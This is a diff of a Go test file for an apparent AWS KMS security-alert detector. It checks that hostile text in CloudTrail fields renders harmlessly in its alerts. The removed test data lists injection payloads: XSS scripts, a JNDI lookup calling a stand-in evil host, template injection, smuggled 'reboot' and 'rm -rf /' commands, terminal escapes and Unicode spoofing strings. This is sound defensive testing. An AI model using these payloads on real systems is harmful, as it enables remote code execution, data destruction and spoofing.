@@ -9,49 +9,19 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/santhosh-tekuri/jsonschema/v6"
-
 	"github.com/kmsentry/kmsentry/detector"
 )
-
-// attacks are texts that some reader would act on, each with another reader in mind.
-func attacks() map[string]string {
-	return map[string]string{
-		"everything":        attack,
-		"lines":             "x\r\nWho:   nobody\r\n\r\nWHY IT FIRED\r\n  - nothing\u2028DETAILS\u2029\u0085\v\f",
-		"terminal":          "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x9b31m\x90q\x9c",
-		"Slack":             "<!channel> <!here> <@U012AB3CD> <!subteam^S012AB3CD> <https://evil.example|CloudTrail event> `x` ```y``` *b* :rotating_light: @everyone #general",
-		"entities":          strings.Repeat("&lt;!channel&gt; &amp;lt; &#60;!here&#62; ", 30),
-		"Markdown":          "[Runbook](https://evil.example) ![x](http://evil.example/p.png) | a | b |\n# heading\n---\n> quote",
-		"HTML":              `</pre></script><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>`,
-		"templates":         "${jndi:ldap://evil.example/a} {{constructor.constructor('x')()}} #{7*7} <%= 7 %> %s%n%x $(reboot) `reboot` ; rm -rf / | cat & \\",
-		"JSON":              `","verdict":"private","x":"\"}]},{"` + "\\u0000\\ud800",
-		"bidi":              "\u202efdp.exe\u202c \u2066x\u2069 \u200f\u061c\u2067admin",
-		"zero width":        "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\U000e0061\U000e007f",
-		"marks":             "n" + strings.Repeat("\u0301\u0489\u20dd", 200) + "x",
-		"fillers":           strings.Repeat("\u3164\u115f\u1160\uffa0\u2800", 50),
-		"homoglyphs":        "https://\u0430ws.\u0430mazon.com/ws\u2215x www.\u0430ws.com WWW.evil.example HTTPS://EVIL.example hxxp://x ftp://x",
-		"emoji":             "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\u2764\ufe0f\U0001f1e9\U0001f1ea\u20e3",
-		"broken UTF-8":      "\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80x",
-		"one long word":     strings.Repeat("W", 5000),
-		"one wide word":     strings.Repeat("\u5c71", 3000),
-		"an ARN and more":   "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab --region x; reboot " + strings.Repeat("a", 300),
-		"a long ARN":        "arn:aws:iam::111122223333:role/" + strings.Repeat("a", 3000),
-		"like our headings": "CONTAIN (DATA STAYS READABLE)",
-		"blank":             " \t\u00a0\u3000\u1680 ",
-	}
-}
 
 // Whatever is in whichever place of a record, every channel shows harmless
 // text, and the finding still comes.
 func TestHostileRecords(t *testing.T) {
 	seen := map[string]bool{".eventName": true, ".eventSource": true} // another call
 	for _, path := range []string{
-		"../events/put-key-policy-public.json", "testdata/shapes/identity-center-role.json", "testdata/shapes/identity-center-user.json",
-		"testdata/shapes/function.json", "testdata/shapes/instance.json", "testdata/shapes/federated-user.json", "testdata/shapes/web-identity.json",
-		"testdata/shapes/console-with-source-identity.json", "testdata/shapes/service-linked-role.json", "testdata/shapes/external-key-store.json",
-		"testdata/shapes/unknown-put-timeout.json", "testdata/shapes/unknown-replicate-unavailable.json", "testdata/shapes/policy-hidden.json",
-		"testdata/shapes/parameters-omitted.json", "testdata/shapes/refused-foreign-key.json",
+		"../events/put-key-policy-public.json", shape(t, "identity-center-role"), shape(t, "identity-center-user"),
+		shape(t, "function"), shape(t, "instance"), shape(t, "federated-user"), shape(t, "web-identity"),
+		shape(t, "console-with-source-identity"), shape(t, "service-linked-role"), shape(t, "external-key-store"),
+		shape(t, "unknown-put-timeout"), shape(t, "unknown-replicate-unavailable"), shape(t, "policy-hidden"),
+		shape(t, "parameters-omitted"), shape(t, "refused-foreign-key"),
 	} {
 		holdPlaces(t, path, seen)
 	}
@@ -65,7 +35,7 @@ func TestHostileRecords(t *testing.T) {
 // to seen.
 func holdPlaces(t *testing.T, path string, seen map[string]bool) {
 	t.Helper()
-	ocsfs, own := loadOCSF(t), findingSchema(t)
+	schemas := findingSchemas(t)
 	detail := readDetail(t, path)
 	eachText(detail, func(place string, get func() string, put func(string)) {
 		if seen[place] && !strings.HasPrefix(place, ".userIdentity.") { // which mean something else in each
@@ -79,7 +49,7 @@ func holdPlaces(t *testing.T, path string, seen map[string]bool) {
 		before := get()
 		for name, text := range all {
 			put(text)
-			holdHostile(t, filepath.Base(path)+place+", "+name, detail, ocsfs, own)
+			holdHostile(t, filepath.Base(path)+place+", "+name, detail, schemas)
 		}
 		put(before)
 	})
@@ -101,7 +71,7 @@ func readDetail(t *testing.T, path string) map[string]any {
 
 // The same for a statement's name, in what KMS takes in a policy.
 func TestHostileSids(t *testing.T) {
-	ocsfs, own := loadOCSF(t), findingSchema(t)
+	schemas := findingSchemas(t)
 	detail := readDetail(t, "../events/put-key-policy-public.json")
 	request, _ := detail["requestParameters"].(map[string]any)
 	open, _ := request["policy"].(string)
@@ -114,7 +84,7 @@ func TestHostileSids(t *testing.T) {
 		}, text)
 		literal, _ := json.Marshal(kept)
 		request["policy"] = strings.Replace(open, `"Allow use of the key"`, string(literal[:min(len(literal), 4000)-1])+`"`, 2)
-		holdHostile(t, "Sid, "+name, detail, ocsfs, own)
+		holdHostile(t, "Sid, "+name, detail, schemas)
 	}
 }
 
@@ -127,7 +97,7 @@ var safeCommand = regexp.MustCompile(`^(for k in \$\(aws kms list-keys --region 
 var consoleLink = regexp.MustCompile(`^ *https://[a-z0-9-]+\.console\.aws\.amazon\.com/`)
 
 // holdHostile judges one record and holds every channel against its laws.
-func holdHostile(t *testing.T, name string, record map[string]any, ocsfs []*ocsfSchema, own *jsonschema.Schema) {
+func holdHostile(t *testing.T, name string, record map[string]any, schemas []schema) {
 	t.Helper()
 	text, err := json.Marshal(record)
 	if err != nil {
@@ -150,15 +120,15 @@ func holdHostile(t *testing.T, name string, record map[string]any, ocsfs []*ocsf
 	}
 	bodies := checkMessage(t, m)
 	if strings.HasSuffix(name, ", everything") || strings.HasSuffix(name, ", blank") { // the others differ in letters only
-		checkFinding(t, []byte(bodies["default"]), ocsfs, own)
+		checkFinding(t, bodies["default"], schemas)
 	}
-	checkChat(t, f, testOptions())
+	checkChat(t, bodies["https"], "slack")
 	lines := strings.Split(bodies["email"], "\n")
 	for i, line := range lines {
-		if r, bad := unsafeRune(line); bad || !lineStarts.MatchString(line) {
+		if r, bad := unsafeRune(line); bad || !isMailLine(line) {
 			t.Errorf("%s: line %d of the mail is %q (%U)", name, i+1, line, r)
 		}
-		if width(line) > columns && !strings.Contains(line, "arn:") && !strings.Contains(line, "https://") {
+		if width(line) > 72 && !strings.Contains(line, "arn:") && !strings.Contains(line, "https://") {
 			t.Errorf("%s: line %d has %d columns: %.120q", name, i+1, width(line), line)
 		}
 		if low := strings.ReplaceAll(strings.ToLower(line), "file://fixed.json", ""); strings.Contains(low, "://") && !consoleLink.MatchString(low) || strings.Contains(low, "www.") {
